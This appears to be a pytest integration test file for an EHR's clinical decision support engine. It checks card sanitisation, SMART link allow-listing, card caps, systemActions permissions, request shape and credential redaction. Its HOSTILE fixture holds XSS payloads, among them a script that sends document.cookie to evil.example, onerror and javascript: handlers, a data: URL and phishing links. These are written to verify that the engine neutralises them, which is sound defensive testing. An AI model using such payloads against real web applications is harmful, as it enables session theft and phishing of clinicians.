"""What the engine makes of a service's answer (R1, R2): hostile cards neutralised end to end,
smart links only to registered SMART apps, invalid cards dropped with reasons, the card cap,
systemActions only where allowed; and the request shape (no empty optional members, no token
for a hook without a user).
"""

from __future__ import annotations

import uuid
from collections.abc import AsyncIterator, Collection
from dataclasses import dataclass, field
from pathlib import Path

import httpx
import pytest

from ehr.exchange import HookCall
from ehr.invoke import CdsEngine
from tests.integration.ehr_engine_harness import Doubles, EngineStack, card_for, engine_stack, migrated, service

SMART = "https://localhost:9004/launch"


@dataclass
class SmartRegistry:
    """The SMART-launch-URL provider the engine is given (H1b reads the authserver admin API)."""

    urls: set[str] = field(default_factory=lambda: {SMART})
    calls: int = 0
    broken: bool = False

    async def __call__(self) -> Collection[str]:
        self.calls += 1
        if self.broken:
            raise ConnectionError("authserver down")
        return set(self.urls)


@pytest.fixture(scope="module")
def registry() -> SmartRegistry:
    return SmartRegistry()


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    directory = tmp_path_factory.mktemp("responses")
    return directory, migrated(directory)


@pytest.fixture(scope="module")
async def stack(db: tuple[Path, str], registry: SmartRegistry) -> AsyncIterator[EngineStack]:
    async with engine_stack(db[0], db[1], smart_urls=registry) as built:
        yield built


@pytest.fixture(autouse=True)
def reset(registry: SmartRegistry) -> None:
    registry.calls = 0
    registry.broken = False


HOSTILE = {
    "cards": [
        card_for(
            "hostile",
            summary='<img src=x onerror="alert(document.cookie)">Check K+',
            detail=(
                "**High** potassium <script>fetch('https://evil.example/?'+document.cookie)</script>\n\n"
                "[guideline](https://example.org/k) [phish](https://evil.example/login) "
                '[js](javascript:alert(1)) <a href="javascript:alert(1)">raw</a>'
            ),
            source={"label": "<b>Lab</b>", "url": "javascript:alert(1)"},
            links=[
                {"label": "App", "url": SMART, "type": "smart", "appContext": "ctx"},
                {"label": "Rogue app", "url": "https://rogue.example/launch", "type": "smart"},
                {"label": "JS", "url": "javascript:alert(1)", "type": "absolute"},
                {"label": "Data", "url": "data:text/html,<script>alert(1)</script>", "type": "absolute"},
                {"label": "Docs", "url": "https://example.org/docs/k", "type": "absolute"},
                {"label": "Phish", "url": "https://evil.example/login", "type": "absolute"},
            ],
        )
    ]
}


async def test_a_hostile_card_reaches_the_clinician_neutralised(
    stack: EngineStack, doubles: tuple[Doubles, str], registry: SmartRegistry
) -> None:
    found, base = doubles
    found.answers["ok-hostile"] = lambda body: HOSTILE
    user, mine = stack.fhir.practitioner(0), stack.fhir.patient_of(0)
    outcome = await stack.engine.run_hook(stack.call(user, mine), [service(base, "ok-hostile")])
    [result] = outcome.results
    assert result.status == "ok", result.reason
    [card] = result.cards
    # Script and raw HTML stay literal text; of four links only the https one to a listed host
    # stays a link (the javascript: one is not even parsed as a link by CommonMark).
    assert card["detailHtml"] == (
        "<p><strong>High</strong> potassium &lt;script&gt;fetch('https://evil.example/?'+document.cookie)"
        "&lt;/script&gt;</p>\n"
        '<p><a href="https://example.org/k" rel="noopener noreferrer nofollow">guideline</a> phish '
        '[js](javascript:alert(1)) &lt;a href="javascript:alert(1)"&gt;raw&lt;/a&gt;</p>\n'
    )
    assert card["summaryHtml"] == "&lt;img src=x onerror=&quot;alert(document.cookie)&quot;&gt;Check K+"
    assert card["source"] == {"label": "<b>Lab</b>"}
    assert card["links"] == [
        {"label": "App", "url": SMART, "type": "smart", "appContext": "ctx"},
        {"label": "Docs", "url": "https://example.org/docs/k", "type": "absolute"},
    ]
    assert result.notes == [
        "card 0: source.url removed: not an https URL",
        "card 0: link 1 removed: smart link to an app that is not registered",
        "card 0: link 2 removed: only https links are allowed",
        "card 0: link 3 removed: only https links are allowed",
        "card 0: link 5 removed: host not on the EHR's link allow-list",
    ]
    # The response as received is kept for the developer, the cards as shown are sanitized.
    assert result.response == HOSTILE
    assert registry.calls == 1


async def test_the_smart_app_registry_is_asked_once_per_hook_call_and_only_when_needed(
    stack: EngineStack, doubles: tuple[Doubles, str], registry: SmartRegistry
) -> None:
    found, base = doubles
    found.answers["ok-h1"] = found.answers["ok-h2"] = lambda body: HOSTILE
    user, mine = stack.fhir.practitioner(0), stack.fhir.patient_of(0)
    outcome = await stack.engine.run_hook(stack.call(user, mine), [service(base, "ok-h1"), service(base, "ok-h2")])
    assert [len(r.cards[0]["links"]) for r in outcome.results] == [2, 2]
    assert registry.calls == 1
    await stack.engine.run_hook(stack.call(user, mine), [service(base, "ok-plain")])
    assert registry.calls == 1


async def test_when_the_smart_app_registry_is_unavailable_smart_links_are_removed(
    stack: EngineStack, doubles: tuple[Doubles, str], registry: SmartRegistry
) -> None:
    found, base = doubles
    registry.broken = True
    found.answers["ok-hostile"] = lambda body: HOSTILE
    user, mine = stack.fhir.practitioner(0), stack.fhir.patient_of(0)
    outcome = await stack.engine.run_hook(stack.call(user, mine), [service(base, "ok-hostile")])
    [result] = outcome.results
    assert result.status == "ok"
    assert [link["type"] for link in result.cards[0]["links"]] == ["absolute"]
    assert "SMART app registry unavailable: smart links removed" in result.notes


async def test_invalid_cards_are_dropped_with_reasons_and_the_cap_applies(
    stack: EngineStack, doubles: tuple[Doubles, str]
) -> None:
    found, base = doubles
    cards = [card_for("bad", selectionBehavior="all", suggestions=[{"label": "x"}]), card_for("no-source", source={})]
    cards += [card_for(f"c{i}") for i in range(22)]
    found.answers["ok-many"] = lambda body: {"cards": cards}
    user, mine = stack.fhir.practitioner(0), stack.fhir.patient_of(0)
    outcome = await stack.engine.run_hook(stack.call(user, mine), [service(base, "ok-many")])
    [result] = outcome.results
    assert result.status == "ok"
    assert [c["uuid"] for c in result.cards] == [f"card-c{i}" for i in range(20)]
    assert [(d.index, d.reason.split(":")[0]) for d in result.dropped] == [
        (0, "selectionBehavior"),
        (1, "source.label"),
        (22, "more than 20 cards"),
        (23, "more than 20 cards"),
    ]


async def test_a_response_that_is_not_a_cds_response_is_an_error(
    stack: EngineStack, doubles: tuple[Doubles, str]
) -> None:
    found, base = doubles
    found.answers["ok-nocards"] = lambda body: {"card": []}
    user, mine = stack.fhir.practitioner(0), stack.fhir.patient_of(0)
    outcome = await stack.engine.run_hook(stack.call(user, mine), [service(base, "ok-nocards")])
    assert outcome.results[0].status == "error"
    assert outcome.results[0].reason == "invalid CDS response: the response has no cards array"


async def test_system_actions_are_kept_only_for_a_service_allowed_to_send_them(
    stack: EngineStack, doubles: tuple[Doubles, str]
) -> None:
    found, base = doubles
    action = {
        "type": "update",
        "description": "flag",
        "resource": {"resourceType": "Flag", "id": "f1", "status": "active"},
    }
    found.answers["ok-actions"] = lambda body: {"cards": [], "systemActions": [action]}
    user, mine = stack.fhir.practitioner(0), stack.fhir.patient_of(0)
    refused = await stack.engine.run_hook(stack.call(user, mine), [service(base, "ok-actions")])
    allowed = await stack.engine.run_hook(
        stack.call(user, mine), [service(base, "ok-actions", allow_system_actions=True)]
    )
    assert refused.results[0].system_actions == []
    assert refused.results[0].system_actions_result == {
        "applied": False,
        "reason": "systemActions are not allowed for this service",
    }
    assert allowed.results[0].system_actions == [action]
    assert allowed.results[0].system_actions_result is None  # the API applies them, then records that


async def test_the_request_never_carries_empty_optional_members(
    stack: EngineStack, doubles: tuple[Doubles, str]
) -> None:
    found, base = doubles
    user, mine = stack.fhir.practitioner(0), stack.fhir.patient_of(0)
    # A template that cannot be resolved (no encounter in context) leaves prefetch empty.
    config = service(base, "ok-a", prefetch={"enc": "Encounter/{{context.encounterId}}"})
    outcome = await stack.engine.run_hook(stack.call(user, mine), [config])
    [received] = found.to("ok-a")
    assert set(received.body) == {"hook", "hookInstance", "fhirServer", "fhirAuthorization", "context"}
    assert received.body["context"] == {"userId": user, "patientId": mine}
    assert outcome.results[0].notes == ["prefetch enc: template not resolvable for this invocation"]


async def test_a_hook_without_a_user_gets_no_token_and_no_prefetch(
    stack: EngineStack, doubles: tuple[Doubles, str]
) -> None:
    found, base = doubles
    mine = stack.fhir.patient_of(0)
    context = {"patientId": mine, "dispatchedOrders": ["ServiceRequest/s1"], "performer": "Organization/o1"}
    call = HookCall("order-dispatch", str(uuid.uuid4()), None, mine, context)
    config = service(base, "ok-a", hook="order-dispatch", prefetch={"patient": "Patient/{{context.patientId}}"})
    outcome = await stack.engine.run_hook(call, [config])
    [result] = outcome.results
    assert result.status == "ok"
    [received] = found.to("ok-a")
    assert "fhirAuthorization" not in received.body and "prefetch" not in received.body
    assert "fhirServer" not in received.body  # only ever sent with fhirAuthorization
    assert received.body["context"] == context
    assert result.timings.token_ms is None and result.token_scope is None


async def test_a_malformed_call_is_refused_before_any_service_is_called(
    stack: EngineStack, doubles: tuple[Doubles, str]
) -> None:
    from ehr.hooks import HookContextError

    found, base = doubles
    user, mine = stack.fhir.practitioner(0), stack.fhir.patient_of(0)
    bad: list[HookCall] = [
        HookCall("patient-view", "not-a-uuid", user, mine, {"userId": user, "patientId": mine}),
        HookCall("patient-view", str(uuid.uuid4()), user, mine, {"userId": user, "patientId": f"Patient/{mine}"}),
        HookCall("patient-view", str(uuid.uuid4()), user, mine, {"userId": user, "patientId": "someone-else"}),
        HookCall("order-sign", str(uuid.uuid4()), user, mine, {"userId": user, "patientId": mine}),
    ]
    for call in bad:
        with pytest.raises(HookContextError):
            await stack.engine.run_hook(call, [service(base, "ok-a", hook=call.hook)])
    assert found.received == []


async def test_no_token_is_asked_for_when_the_fhir_base_would_carry_it_over_plain_http(
    stack: EngineStack, doubles: tuple[Doubles, str]
) -> None:
    found, base = doubles
    asked: list[str] = []

    def authserver(request: httpx.Request) -> httpx.Response:
        asked.append(str(request.url))
        return httpx.Response(500)

    settings = stack.settings.model_copy(update={"fhir_base_url": "http://fhir.example.org/fhir"})
    async with httpx.AsyncClient(transport=httpx.MockTransport(authserver)) as http:
        engine = CdsEngine(settings, http=http, keys=stack.keys, clock=stack.clock)
        try:
            user, mine = stack.fhir.practitioner(0), stack.fhir.patient_of(0)
            outcome = await engine.run_hook(stack.call(user, mine), [service(base, "ok-a")])
        finally:
            await engine.aclose()
    assert outcome.results[0].status == "error"
    assert outcome.results[0].reason == "the EHR's FHIR base URL is not https: no token is sent over it"
    assert asked == [] and found.received == []


async def test_credentials_a_service_echoes_back_are_redacted_from_cards_and_records(
    stack: EngineStack, doubles: tuple[Doubles, str]
) -> None:
    found, base = doubles
    user, mine = stack.fhir.practitioner(0), stack.fhir.patient_of(0)
    outcome = await stack.engine.run_hook(
        stack.call(user, mine), [service(base, "ok-echo"), service(base, "echo-error", client_id="cds-b")]
    )
    echo, error = outcome.results
    sent_token = found.to("ok-echo")[0].body["fhirAuthorization"]["access_token"]
    sent_jwt = found.to("ok-echo")[0].headers["authorization"].removeprefix("Bearer ")
    assert echo.status == "ok"
    assert echo.response["echo"] == ["[redacted]", "[redacted]"]
    assert echo.cards[0]["detail"] == "token [redacted] jwt [redacted]"
    for text in (str(echo.response), str(echo.cards)):
        assert sent_token not in text and sent_jwt not in text
    assert error.reason == "service error (HTTP 500)"
    assert error.response == "bad credentials: Bearer [redacted]"
